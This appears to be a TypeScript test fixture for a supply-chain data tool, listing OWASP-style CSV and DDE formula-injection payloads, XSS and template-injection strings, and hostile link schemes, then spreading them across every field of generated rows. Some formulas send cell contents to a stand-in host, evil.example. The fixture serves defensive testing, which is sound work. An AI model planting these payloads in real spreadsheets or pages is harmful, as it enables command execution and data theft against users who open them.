/** Published ways to make a spreadsheet calculate, call or open what a cell says: OWASP's list for CSV, DDE, and what looks like them. */
export const ATTACKS = [
  "=cmd|' /C calc'!A0",
  "=DDE(\"cmd\";\"/C calc\";\"x\")",
  "=1+1",
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=2+2",
  "\r=3+3",
  "\n=4+4",
  '=HYPERLINK("https://evil.example/?"&A1,"Annual report")',
  '=IMPORTXML(CONCAT("https://evil.example/",A1),"//a")',
  "＝7＋7", // full width: the same text as =7+7
  "'=1+1",
  '","=1+1","',
  '"),CHAIN.MODEL(),("',
  "<img src=x onerror=\"document.title='taken'\">",
  "<script>document.title='taken'</script>",
  "{{constructor.constructor('document.title=1')()}}",
];
const LINKS = ["javascript:alert(1)", " javascript:alert(1)", "JaVaScRiPt:alert(1)", "data:text/html,<script>alert(1)</script>", "file:///c:/windows/system32/calc.exe", "vbscript:msgbox(1)", "ms-excel:ofe|u|https://evil.example/x.xlsm", "\\\\evil.example\\share", "https://bank.example@evil.example/", "=HYPERLINK(\"https://evil.example\")"];
export const STAGES = ["Mining", "Concentration", "Separation", "Metal", "Alloy", "Magnet", "Customer"];

/** Each attack as a company with rows on all links; as its source, site, product, holder and note; with a link of another scheme. */
export const HOSTILE_EVIDENCE = [
  ["Company", "Stage", "Status", "Through", "Product", "Site", "Country", "Asserted by", "Source", "Link", "Note"],
  ...ATTACKS.flatMap((attack, place) => STAGES.map((stage, link) => [attack, stage, "Operating", attack, attack, attack, attack, "Company", attack, LINKS[(place + link) % LINKS.length]!, attack])),
];
